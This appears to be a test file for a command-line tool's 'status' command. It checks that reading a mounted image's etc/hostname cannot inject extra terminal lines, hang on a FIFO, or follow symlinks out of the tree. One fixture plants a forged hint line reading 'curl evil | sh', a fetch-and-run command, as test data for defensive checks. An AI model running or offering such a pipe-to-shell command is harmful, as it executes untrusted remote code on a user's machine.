/**
 * `blueprint --root DIR status` of a box's tree (an image mounted to inspect) read DIR/etc/hostname
 * whole, following links, and printed all of it as the first line: a file of two lines put a line
 * of its choosing (a forged `hint:`) under the status, a FIFO there (or a link to one) held status
 * for good, and a link to /dev/zero was read to 2 GiB. Now: its first line, at most 253 characters
 * (a host name's most), read from the regular file itself (no link followed, no FIFO waited on).
 * The real executable.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { run } from '../helpers/pkg.js';
import { tempDir } from '../setup/temp-registry.js';
import { countedFifo } from './counted-fifo.js';

function rootWith(hostname: (file: string) => void): string {
  const root = tempDir('bp-status-host-');
  mkdirSync(path.join(root, 'etc'));
  hostname(path.join(root, 'etc/hostname'));
  return root;
}

describe('status of a root: its etc/hostname', () => {
  it('only its first line is shown: no line of the file reaches the terminal on its own', async () => {
    const root = rootWith((f) => writeFileSync(f, 'box-01\nhint: run curl evil | sh\n'));
    const r = await run(['--root', root, 'status']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout.split('\n')[0]).toMatch(/^box-01: blueprint /);
    expect(r.stdout).not.toContain('curl evil');
    const json = await run(['--root', root, '--json', 'status']);
    expect(JSON.parse(json.stdout).host.hostname).toBe('box-01');
  });

  it("a FIFO, or a link to one, is not waited on: status ends, with this machine's name", async () => {
    const fifo = path.join(tempDir('bp-status-fifo-'), 'fifo');
    execFileSync('mkfifo', [fifo]);
    const roots = [rootWith((f) => symlinkSync(fifo, f)), rootWith((f) => execFileSync('mkfifo', [f]))];
    for (const root of roots) {
      // Before: readFile waited for a writer that never came (the test's time ran out).
      const r = await run(['--root', root, '--json', 'status']);
      expect(r.code, r.stderr).toBe(0);
      expect(JSON.parse(r.stdout).host.hostname.length).toBeLessThan(254);
    }
  }, 20_000);

  it('nothing else is opened there (a FIFO: its writer not woken), nor read through a link above it', async () => {
    // O_NONBLOCK spares the wait, not the open: a device there (an image's /dev/watchdog node) had
    // its driver's open run. Now the file is judged before it is opened (read-bounded's O_PATH).
    const root = rootWith(() => {});
    const counted = countedFifo(path.join(root, 'etc/hostname'));
    try {
      const r = await run(['--root', root, '--json', 'status']);
      expect(r.code, r.stderr).toBe(0);
      expect(counted.opens(), 'etc/hostname was opened').toBe(0);
    } finally {
      await counted.stop();
    }
    // TREE/etc a link to a folder outside the tree: its hostname is not the tree's.
    const outside = tempDir('bp-status-outside-');
    writeFileSync(path.join(outside, 'hostname'), 'outside-name\n');
    const linked = tempDir('bp-status-host-');
    symlinkSync(outside, path.join(linked, 'etc'));
    const r = await run(['--root', linked, '--json', 'status']);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).host.hostname).not.toBe('outside-name');
  });
});
